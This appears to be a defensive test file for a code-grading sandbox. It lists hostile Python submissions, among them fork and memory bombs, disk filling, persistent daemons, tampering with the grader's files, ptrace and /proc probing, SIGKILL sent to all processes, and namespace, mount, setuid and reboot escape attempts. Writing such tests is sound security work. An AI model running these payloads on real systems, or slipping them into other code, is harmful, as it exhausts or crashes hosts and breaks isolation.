"""Submissions that harm the machine, the batch or the submissions after them, or try to get out.

They mean it: none of these may run anywhere but in the sandbox.
"""

from __future__ import annotations

from tests.attacks.attack import Attack

MARK = "distill-lab-attack"  # of whatever an attack leaves behind or listens on
PORT = 47_474  # where the tests listen: a connection is an attack that succeeded

ENDED = "it ended its own process"
TOO_LONG = "it takes longer than"
TOO_MUCH = "it takes more memory than"
HELD = "got through: nothing"

# An attack on the walls says what got through them: in the process that is asked with the seed
# that everybody has, so that it reaches the reason.
WALLS = f"""
import ctypes, glob, mmap, os, resource, signal, socket, struct, subprocess, sys, threading, time
libc = ctypes.CDLL(None, use_errno=True)
MARK, PORT = {MARK!r}, {PORT}
through = []


def tried(name, action, *arguments):
    try:
        done = action(*arguments)
    except BaseException:
        return None
    if not isinstance(done, int) or isinstance(done, bool) or done >= 0:
        through.append(name)
    return done


def retention(student_score, teacher_score):
    raise RuntimeError("got through: " + (", ".join(through) or "nothing"))

"""


def _walls(name: str, source: str) -> Attack:
    """An attack that tries one way out after the other."""
    return Attack(name, 1, answers={"retention": WALLS + source}, says=HELD)


def _at_import(name: str, source: str, says: str = "") -> Attack:
    return Attack(name, 1, answers={"retention": WALLS + source}, says=says)


def _at_call(name: str, body: str, says: str = "", *, before: str = "") -> Attack:
    lines = "\n".join(f"    {line}" for line in body.strip("\n").splitlines())
    head = "def retention(student_score, teacher_score):\n"
    return Attack(name, 1, answers={"retention": f"{WALLS}{before}\n{head}{lines}\n"}, says=says)


# --- ending -------------------------------------------------------------------------------------

ENDING = [
    _at_import("exits-at-import", "os._exit(0)", ENDED),
    _at_call("exits-at-call", "os._exit(0)", ENDED),
    _at_call(
        "exits-at-the-third-call",
        """
calls.append(1)
if len(calls) == 3:
    os._exit(0)
return student_score / teacher_score
""",
        ENDED,
        before="calls = []",
    ),
    Attack(
        "exits-once-it-has-points",  # and keeps those of what it did before
        1,
        answers={
            "retention": """
import os
calls = []

def retention(student_score, teacher_score):
    calls.append(1)
    if len(calls) == 4:
        os._exit(0)
    return student_score / teacher_score
"""
        },
        points={"retention": 0.5},
        says=ENDED,
    ),
    _at_import("sys-exit-at-import", "sys.exit('passed')\nretention = None", "it raises"),
    _at_call("sys-exit-at-call", "sys.exit(0)", "it raises SystemExit"),
    _at_call("interrupts", "raise KeyboardInterrupt", ENDED),
    _at_import(
        "at-exit",
        """
import atexit
atexit.register(lambda: os.write(3, b"DLgr" + bytes(12)))
atexit.register(lambda: open("/tmp/" + MARK, "w").close())
def retention(student_score, teacher_score):
    raise SystemExit
""",
        "it raises SystemExit",
    ),
    _at_call("segfault", "ctypes.string_at(8)", ENDED),
    _at_call("abort", "os.abort()", ENDED),
    _at_call("recursion", "return retention(student_score, teacher_score)", "it raises Recursion"),
    _at_call(
        "stack-overflow",
        "sys.setrecursionlimit(10**9)\n"
        "f = lambda *a: sorted([1, 2], key=lambda x: f())\nreturn f()",
    ),
    _at_call(
        "closes-the-channel", "os.closerange(0, 100)\ntime.sleep(60)", "its process has ended"
    ),
    _at_call(
        "another-channel",
        """
one, other = socket.socketpair()
os.dup2(one.fileno(), 3)
for descriptor in range(3):
    os.dup2(one.fileno(), descriptor)
return 1.0
""",
    ),
    _at_call("stops-itself", "os.kill(os.getpid(), signal.SIGSTOP)\nsignal.pause()", TOO_LONG),
    _at_call(
        "ignores-every-signal",
        """
for number in range(1, 65):
    try:
        signal.signal(number, signal.SIG_IGN)
    except (OSError, ValueError):
        pass
signal.pthread_sigmask(signal.SIG_BLOCK, range(1, 65))
while True:
    time.sleep(1)
""",
        TOO_LONG,
    ),
]

# --- using up -----------------------------------------------------------------------------------

USING = [
    _at_import("cpu-at-import", "while True:\n    pass", TOO_LONG),
    _at_call("cpu-at-call", "while True:\n    pass"),
    _at_call("one-long-call-of-c", "return sum(range(10**12))"),
    _at_call(
        "cpu-in-children",
        """
for _ in range(7):
    if os.fork() == 0:
        while True:
            pass
while True:
    pass
""",
    ),
    _at_call(
        "fork-bomb",
        """
while True:
    try:
        os.fork()
    except OSError:
        pass
""",
    ),
    _at_call(
        "fork-bomb-of-short-lives",
        """
signal.signal(signal.SIGCHLD, signal.SIG_IGN)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            if os.fork():
                os._exit(0)
    except OSError:
        pass
""",
    ),
    _at_call(
        "thread-bomb",
        """
while True:
    try:
        threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
    except (RuntimeError, MemoryError):
        pass
""",
        TOO_LONG,
    ),
    # What ends it first is a matter of moments: MemoryError, the worker's look, or the kernel.
    _at_call("memory", "held = []\nwhile True:\n    held.append(bytearray(1 << 24))"),
    _at_call(
        "memory-in-children",
        """
for _ in range(6):
    if os.fork() == 0:
        break
held = []
while True:
    try:
        held.append(bytearray(os.urandom(1 << 10) * (1 << 12)))
    except MemoryError:
        time.sleep(60)
""",
        TOO_MUCH,
    ),
    _at_call(
        "shared-memory",
        """
held = []
while True:
    try:
        held.append(mmap.mmap(-1, 1 << 24))
        held[-1].write(b"x" * (1 << 24))
    except MemoryError:
        if os.fork():
            time.sleep(60)
        held = []
""",
        "it raises PermissionError",
    ),
    # Pages that are written and then let go of stay in the mapping, but are no process's own.
    _at_call(
        "shared-memory-out-of-sight",
        """
for _ in range(6):
    if os.fork() == 0:
        break
held = []
for _ in range(24):
    try:
        held.append(mmap.mmap(-1, 1 << 24))
    except PermissionError:
        raise RuntimeError("got through: nothing") from None
    held[-1].write(b"x" * (1 << 24))
    held[-1].madvise(mmap.MADV_DONTNEED)
time.sleep(60)
""",
        HELD,
    ),
    _at_call(
        "full-disks",
        """
for folder in ("/tmp", "/dev/shm"):
    for k in range(100_000):
        try:
            with open(f"{folder}/{MARK}-{k}", "wb") as file:
                file.write(b"x" * (1 << 23))
        except OSError:
            break
time.sleep(60)
""",
        TOO_LONG,
    ),
    _at_call(
        "files-without-number",
        """
k = 0
while True:
    k += 1
    try:
        os.mkdir(f"/tmp/{MARK}-{k}")
    except OSError:
        pass
""",
    ),
    _at_call(
        "huge-file",
        """
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
with open(f"/tmp/{MARK}", "wb") as file:
    file.truncate(1 << 40)
""",
        "it raises OSError",
    ),
    _at_call(
        "output-without-end",
        """
while True:
    print("x" * 100_000, file=sys.__stdout__)
    os.write(1, b"x" * 100_000)
    os.write(2, b"x" * 100_000)
""",
    ),
    _at_call(
        "printed-without-end",
        "while True:\n    print('x' * 1_000_000)",
    ),
    _at_call(
        "pipes-full-of-data",
        """
held = []
while True:
    try:
        held.append(os.pipe2(os.O_NONBLOCK))
        os.write(held[-1][1], bytes(1 << 20))
    except OSError:
        held += [socket.socketpair() for _ in range(0)]
        time.sleep(60)
""",
        TOO_LONG,
    ),
]

# --- staying ------------------------------------------------------------------------------------

STAYING = [
    # The next submission of this kind would find it.
    _walls(
        "leaves-files",
        """
folders = {"/tmp", "/var/tmp", "/dev/shm", "/dev", "/run", "/worker", "/worker/distill_lab", "/",
           "/tmp/..", os.path.expanduser("~"), os.getcwd(), *sys.path} - {""}
for folder in sorted(folders):
    found = os.path.join(folder, MARK + "-left")
    if os.path.exists(found):
        through.append("found " + found)
    try:
        open(found, "w").write("left")
    except OSError:
        continue
    if not found.startswith(("/tmp/", "/dev/shm/")):
        through.append("wrote " + found)
""",
    ),
    _walls(
        "finds-what-was-left",
        """
for folder in ("/tmp", "/var/tmp", "/dev/shm", "/run"):
    for found in glob.glob(folder + "/*" + MARK + "*"):
        through.append("found " + found)
""",
    ),
    _at_call(
        "a-daemon-stays",
        """
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        for number in range(1, 65):
            try:
                signal.signal(number, signal.SIG_IGN)
            except (OSError, ValueError):
                pass
        ctypes.CDLL(None).prctl(15, MARK.encode(), 0, 0, 0)
        sys.argv[:] = [MARK]
        while True:
            time.sleep(1)
    os._exit(0)
raise RuntimeError("got through: nothing")
""",
        HELD,
    ),
    _walls(
        "links-to-elsewhere",
        """
for number, target in enumerate(("/etc/passwd", "/root", "/work", "/home", "/proc/1/root", "/..")):
    link = f"/tmp/{MARK}-link-{number}"
    os.symlink(target, link)
    tried("read " + target, lambda: open(link).read())
    tried("wrote " + target, lambda: open(link + "/" + MARK, "w"))
try:
    os.link("/worker/distill_lab/errors.py", f"/tmp/{MARK}-hard")
    through.append("linked")
except OSError:
    pass
""",
    ),
    _walls(
        "changes-the-graders-files",
        """
for path in glob.glob("/worker/**/*.py", recursive=True) + [torch_file for torch_file in (
        __import__("torch").__file__, os.__file__, sys.executable)]:
    tried("opened " + path, open, path, "a")
    tried("unlinked " + path, os.unlink, path)
    tried("chmod " + path, os.chmod, path, 0o777)
    tried("renamed " + path, os.rename, path, "/tmp/gone")
""",
    ),
]

# --- getting out --------------------------------------------------------------------------------

OUT = [
    _walls(
        "reads-proc",
        """
for pid in ("self", "1", "2", str(os.getppid()), *map(str, range(3, 400))):
    for name in ("mem", "maps", "environ", "cmdline", "root", "fd", "cwd"):
        if os.path.exists(f"/proc/{pid}/{name}"):
            through.append(f"/proc/{pid}/{name}")
""",
    ),
    _walls(
        "other-processes-memory",
        """
parent = os.getppid()
for pid in (parent, 1, 2, 3, 10, 100):
    if pid != os.getpid():
        tried(f"ptrace {pid}", libc.ptrace, 16, pid, 0, 0)
        tried(f"seize {pid}", libc.ptrace, 0x4206, pid, 0, 0)
        tried(f"pidfd {pid}", libc.syscall, 434, pid, 0)
    held = ctypes.create_string_buffer(8)
    part = (ctypes.c_size_t * 2)(ctypes.addressof(held), 8)
    tried(f"process_vm_readv {pid}", libc.process_vm_readv, pid, part, 1, part, 1, 0)
    tried(f"process_vm_writev {pid}", libc.process_vm_writev, pid, part, 1, part, 1, 0)
    tried(f"kcmp {pid}", libc.syscall, 312, pid, os.getpid(), 0, 3, 3)
child = os.fork()
if child == 0:
    signal.pause()
tried("ptrace of a child", libc.ptrace, 16, child, 0, 0)
os.kill(child, 9)
os.waitpid(child, 0)
""",
    ),
    # With success nobody grades any more: the warm worker, the judge or the tests are gone.
    _walls(
        "signals-to-everybody",
        """
if os.getpid() != 1:
    through.append("the processes of others")
else:
    for pid in (-1, *range(2, 33_000)):
        tried(f"signal {pid}", os.kill, pid, signal.SIGKILL)
    through[:] = [one for one in through if one != "signal -1"]  # all of its own, itself aside
""",
    ),
    _walls(
        "inherited-descriptors",
        """
for descriptor in range(4, 4096):
    tried(f"descriptor {descriptor}", os.fstat, descriptor)
for descriptor in range(3):
    if os.fstat(descriptor).st_rdev != os.stat("/dev/null").st_rdev:
        through.append(f"stream {descriptor}")
""",
    ),
    _walls(
        "argv-and-environment",
        """
said = " ".join([*sys.argv, *sys.orig_argv, *os.environ.values(), os.getcwd()])
for word in ("seed", "secret", "token", "solution", "password", "ssh", "submitted"):
    if word in said.lower():
        through.append(word)
""",
    ),
    # The tests listen on this port and name.
    _walls(
        "network",
        """
families = {"inet": 2, "inet6": 10, "unix": 1, "netlink": 16, "packet": 17, "vsock": 40, "alg": 38,
            "bluetooth": 31, "xdp": 44, "can": 29}
for name, family in families.items():
    for kind in (1, 2, 3, 5):
        tried(f"socket {name} {kind}", socket.socket, family, kind)
tried("connect", lambda: socket.create_connection(("127.0.0.1", PORT), 1))
tried("resolve", lambda: socket.getaddrinfo("example.org", 80))
tried("curl", lambda: subprocess.run(["curl", "-m", "1", f"http://127.0.0.1:{PORT}"], check=True))
""",
    ),
    _walls(
        "abstract-sockets",
        """
def connected():
    one = socket.socket(socket.AF_UNIX)
    one.connect("\\0" + MARK)

def bound():
    socket.socket(socket.AF_UNIX).bind("\\0" + MARK + "-own")

def readdressed():  # a pair is there: can it be bound, or sent from, to a name?
    one, other = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    one.sendto(b"x", "\\0" + MARK)

def rebound():
    one, other = socket.socketpair()
    one.connect("\\0" + MARK)

for action in (connected, bound, readdressed, rebound):
    tried(action.__name__, action)
""",
    ),
    _walls(
        "memory-between-processes",
        """
tried("memfd", os.memfd_create, MARK)
tried("memfd_secret", lambda: mmap.mmap(libc.syscall(447, 0), 4096))
tried("shmget", libc.shmget, 0x1234, 4096, 0o1666)
tried("msgget", libc.msgget, 0x1234, 0o1666)
tried("semget", libc.semget, 0x1234, 1, 0o1666)
tried("mq_open", libc.syscall, 240, MARK.encode(), os.O_CREAT | os.O_RDWR, 0o666, 0)
tried("keys", libc.syscall, 248, b"user", b"name", b"data", 4, -3)
tried("userfaultfd", libc.syscall, 323, 0)
tried("io_uring", libc.syscall, 425, 1, ctypes.create_string_buffer(200))
tried("bpf", libc.syscall, 321, 0, 0, 0)
tried("perf", libc.syscall, 298, ctypes.create_string_buffer(200), 0, -1, -1, 0)
held = mmap.mmap(-1, 4096)
tried("mlock", libc.mlock, ctypes.c_void_p(ctypes.addressof(ctypes.c_char.from_buffer(held))), 4096)
""",
    ),
    _walls(
        "other-namespaces",
        """
for name, flag in (("user", 1 << 28), ("mount", 1 << 17), ("net", 1 << 30), ("pid", 1 << 29),
                   ("ipc", 1 << 27), ("uts", 1 << 26), ("cgroup", 1 << 25), ("time", 1 << 7)):
    tried(f"unshare {name}", libc.unshare, flag)
    if name != "time":
        child = libc.syscall(56, flag | signal.SIGCHLD, 0, 0, 0, 0)
        if child == 0:
            os._exit(0)
        if child > 0:
            through.append(f"clone {name}")
flags = struct.pack("11Q", 1 << 28, 0, 0, 0, 17, 0, 0, 0, 0, 0, 0)
child = libc.syscall(435, flags, len(flags))
if child == 0:
    os._exit(0)
if child > 0:
    through.append("clone3")
tried("mount", libc.mount, b"none", b"/tmp", b"tmpfs", 0, None)
tried("bind", libc.mount, b"/", b"/tmp", None, 4096, None)
tried("umount /proc", libc.umount2, b"/proc", 2)
tried("umount /tmp", libc.umount2, b"/tmp", 2)
tried("remount", libc.mount, None, b"/", None, 32, None)
tried("pivot_root", libc.syscall, 155, b"/tmp", b"/tmp")
tried("chroot", os.chroot, "/tmp")
for number in range(428, 434):
    tried(f"mount call {number}", libc.syscall, number, -100, b"/", 0, 0, 0)
tried("setns", libc.setns, 3, 0)
tried("by handle", libc.syscall, 304, 3, ctypes.create_string_buffer(200), 0)
""",
    ),
    _at_call(  # the kernel ends who calls as another architecture would
        "calls-of-another-kind",
        "return libc.syscall(0x40000000 + 39)",
        ENDED,
    ),
    _walls(
        "more-rights",
        """
for user in (0, 1, 1000, 65534):
    if user != os.getuid():
        tried(f"setuid {user}", os.setuid, user)
        tried(f"setresgid {user}", os.setresgid, user, user, user)
tried("setgroups", os.setgroups, [0])
tried("capset", libc.capset, struct.pack("Ii", 0x20080522, 0), b"\\xff" * 24)
tried("ambient", libc.prctl, 47, 2, 21, 0, 0)
tried("new privileges", libc.prctl, 38, 0, 0, 0, 0)
if libc.prctl(39, 0, 0, 0, 0) != 1:
    through.append("no_new_privs is off")
for program in ("su", "sudo", "mount", "newgrp", "passwd", "unshare", "nsenter", "bwrap"):
    tried(program, lambda: subprocess.run([program, "-c", "true"], check=True, timeout=2))
for kind in ("AS", "NPROC", "FSIZE", "CPU", "NOFILE", "CORE", "MEMLOCK", "MSGQUEUE"):
    number = getattr(resource, "RLIMIT_" + kind, None)
    if number is not None:
        tried("limit " + kind, resource.setrlimit, number, (resource.RLIM_INFINITY,) * 2)
        if resource.getrlimit(number)[1] == resource.RLIM_INFINITY:
            through.append("no limit " + kind)
tried("nice", os.nice, -5)
tried("real time", os.sched_setscheduler, 0, os.SCHED_FIFO, os.sched_param(10))
tried("hostname", socket.sethostname, MARK)
tried("clock", time.clock_settime, time.CLOCK_REALTIME, time.time())
tried("device", os.mknod, "/tmp/device", 0o020666, os.makedev(1, 1))
tried("reboot", libc.syscall, 169, 0, 0, 0, 0)
tried("kexec", libc.syscall, 246, 0, 0, 0, 0)
tried("module", libc.syscall, 175, b"", 0, b"")
""",
    ),
    _walls(
        "the-terminal",
        """
tried("terminal", open, "/dev/tty", "w")
tried("console", open, "/dev/console", "w")
import fcntl, termios
for descriptor in range(4):
    tried(f"typed {descriptor}", fcntl.ioctl, descriptor, termios.TIOCSTI, b"x")
for name in ("/dev/mem", "/dev/kmsg", "/dev/fuse", "/dev/kvm", "/dev/vda", "/dev/sda", "/sys"):
    tried(name, open, name, "rb")
""",
    ),
]

# An honest answer before or after a hostile cell: due what it is worth.
BESIDE = [
    Attack(
        "harms-itself-in-another-cell",
        1,
        answers={
            "retention": """
def retention(student_score, teacher_score):
    if teacher_score <= 0:
        raise ValueError("expected above 0")
    return student_score / teacher_score
"""
        },
        first=(
            "import sys\nsys.exit(0)",
            "raise KeyboardInterrupt",
            "%%bash\ntouch /tmp/distill-lab-attack-bash",
        ),
        last=("1 / 0", "this is not Python", "raise SystemExit"),
        points={"retention": 2.0},
    ),
]

ATTACKS: list[Attack] = [*ENDING, *USING, *STAYING, *OUT, *BESIDE]
